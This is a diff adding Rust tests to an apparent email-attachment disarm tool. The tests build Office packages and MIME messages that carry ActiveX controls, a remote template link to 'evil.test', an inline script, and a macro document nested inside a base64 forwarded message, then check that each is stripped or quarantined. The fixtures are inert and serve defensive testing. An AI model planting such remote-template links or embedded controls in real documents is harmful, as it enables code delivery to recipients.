@@ -483,3 +483,174 @@ fn an_oversized_pdf_is_held_not_processed() {
     assert_eq!(out.findings[0].code, "undisarmable");
     assert!(out.findings[0].detail.contains("larger than 100 bytes"));
 }
+
+/// A package from (name, content) pairs.
+fn package(files: &[(&str, &str)]) -> Vec<u8> {
+    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
+    let opts = SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
+    for (name, data) in files {
+        zip.start_file(*name, opts).unwrap();
+        zip.write_all(data.as_bytes()).unwrap();
+    }
+    zip.finish().unwrap().into_inner()
+}
+
+const REL: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+
+#[test]
+fn activex_controls_leave_a_workbook_with_their_references() {
+    let sheet_rels = format!(
+        r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{REL}/drawing" Target="../drawings/drawing1.xml"/><Relationship Id="rId2" Type="{REL}/control" Target="../activeX/activeX1.xml"/></Relationships>"#
+    );
+    let xlsx = package(&[
+        (
+            "[Content_Types].xml",
+            r#"<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.activeX"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/></Types>"#,
+        ),
+        (
+            "_rels/.rels",
+            &format!(
+                r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>"#
+            ),
+        ),
+        ("xl/workbook.xml", "<workbook/>"),
+        (
+            "xl/_rels/workbook.xml.rels",
+            &format!(
+                r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{REL}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#
+            ),
+        ),
+        (
+            "xl/worksheets/sheet1.xml",
+            r#"<worksheet xmlns:r="x"><sheetData/><drawing r:id="rId1"/><controls><control shapeId="1025" r:id="rId2" name="CommandButton1"/></controls></worksheet>"#,
+        ),
+        ("xl/worksheets/_rels/sheet1.xml.rels", &sheet_rels),
+        ("xl/drawings/drawing1.xml", "<xdr:wsDr/>"),
+        ("xl/activeX/activeX1.xml", "<ax:ocx/>"),
+        (
+            "xl/activeX/_rels/activeX1.xml.rels",
+            r#"<Relationships><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary" Target="activeX1.bin"/></Relationships>"#,
+        ),
+        ("xl/activeX/activeX1.bin", "control binary"),
+    ]);
+    let raw = with_attachment(
+        "figures.xlsx",
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+        &xlsx,
+    );
+    let out = disarm(&raw).expect("the control is found");
+    assert_eq!(out.findings[0].code, "activex");
+    assert_eq!(out.findings[0].detail, "figures.xlsx: ActiveX controls");
+    let files = attachments(&out.message);
+    let (name, _, body) = &files[0];
+    assert_eq!(name.as_deref(), Some("figures.xlsx"));
+    let entries = zip_entries(body);
+    let names: Vec<&str> = entries.iter().map(|(n, _)| n.as_str()).collect();
+    assert!(!names.iter().any(|n| n.contains("activeX")), "{names:?}");
+    let text = |name: &str| {
+        let (_, data) = entries.iter().find(|(n, _)| n == name).unwrap();
+        String::from_utf8(data.clone()).unwrap()
+    };
+    let sheet = text("xl/worksheets/sheet1.xml");
+    assert_eq!(
+        sheet,
+        r#"<worksheet xmlns:r="x"><sheetData/><drawing r:id="rId1"/></worksheet>"#
+    );
+    let rels = text("xl/worksheets/_rels/sheet1.xml.rels");
+    assert!(
+        rels.contains("drawing1.xml") && !rels.contains("activeX"),
+        "{rels}"
+    );
+    assert!(!text("[Content_Types].xml").contains("activeX"));
+}
+
+#[test]
+fn a_remote_template_link_is_dropped() {
+    let docx = package(&[
+        (
+            "[Content_Types].xml",
+            r#"<Types><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/></Types>"#,
+        ),
+        (
+            "_rels/.rels",
+            &format!(
+                r#"<Relationships><Relationship Id="rId1" Type="{REL}/officeDocument" Target="word/document.xml"/></Relationships>"#
+            ),
+        ),
+        ("word/document.xml", "<w:document/>"),
+        (
+            "word/settings.xml",
+            r#"<w:settings><w:attachedTemplate r:id="rId1"/></w:settings>"#,
+        ),
+        (
+            "word/_rels/settings.xml.rels",
+            &format!(
+                r#"<Relationships><Relationship Id="rId1" Type="{REL}/attachedTemplate" Target="https://evil.test/t.dotm" TargetMode="External"/></Relationships>"#
+            ),
+        ),
+    ]);
+    let raw = with_attachment(
+        "letter.docx",
+        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+        &docx,
+    );
+    let out = disarm(&raw).expect("the remote template is found");
+    assert_eq!(out.findings[0].code, "activex");
+    assert_eq!(
+        out.findings[0].detail,
+        "letter.docx: links to external objects"
+    );
+    let files = attachments(&out.message);
+    let entries = zip_entries(&files[0].2);
+    let (_, rels) = entries
+        .iter()
+        .find(|(n, _)| n == "word/_rels/settings.xml.rels")
+        .unwrap();
+    assert!(memchr::memmem::find(rels, b"evil.test").is_none());
+    let (_, settings) = entries
+        .iter()
+        .find(|(n, _)| n == "word/settings.xml")
+        .unwrap();
+    assert_eq!(settings, b"<w:settings></w:settings>");
+}
+
+#[test]
+fn an_html_part_of_a_forwarded_message_is_disarmed_in_place() {
+    let raw = b"From: a@example.org\n\
+Subject: fwd\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"o\"\n\n\
+--o\nContent-Type: text/plain\n\nsee below\n\
+--o\nContent-Type: message/rfc822\n\n\
+From: c@example.com\nSubject: inner\nMIME-Version: 1.0\nContent-Type: multipart/alternative; boundary=\"i\"\n\n\
+--i\nContent-Type: text/plain\n\ninner text\n\
+--i\nContent-Type: text/html\n\n<p>Hi</p><script>x()</script>\n\
+--i--\n\
+--o--\n";
+    let out = disarm(raw).expect("the inner script is found");
+    assert_eq!(out.findings[0].detail, "part 2.2 (text/html): scripts");
+    let text = String::from_utf8(out.message.clone()).unwrap();
+    // Line ends stay LF, the forwarded message keeps its own header, the note is last.
+    assert!(!text.contains('\r'));
+    assert!(text.contains("From: c@example.com\nSubject: inner\n"));
+    assert!(!text.contains("<script>"));
+    let message = MessageParser::default().parse(&out.message).unwrap();
+    let inner = message.parts.iter().find_map(|p| p.message()).unwrap();
+    let html = inner.body_html(0).unwrap();
+    assert_eq!(html.trim(), "<p>Hi</p>");
+    assert!(note_text(&out.message).contains("part 2.2 (text/html): scripts"));
+    let before = memchr::memmem::find(raw, b"--i\nContent-Type: text/html").unwrap() + 4;
+    assert_eq!(&out.message[..before], &raw[..before]);
+}
+
+#[test]
+fn a_macro_document_inside_an_encoded_forwarded_message_is_held() {
+    let inner = with_attachment("report.docm", DOCM_TYPE, &docm());
+    let raw = format!(
+        "From: a@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"z\"\r\n\r\n\
+--z\r\nContent-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n--z--\r\n",
+        b64(&inner)
+    );
+    let out = disarm(raw.as_bytes()).expect("the macros are found");
+    assert_eq!(out.findings.len(), 1, "{:?}", out.findings);
+    assert_eq!(out.findings[0].action, Action::Quarantine);
+    assert_eq!(out.findings[0].code, "undisarmable");
+}
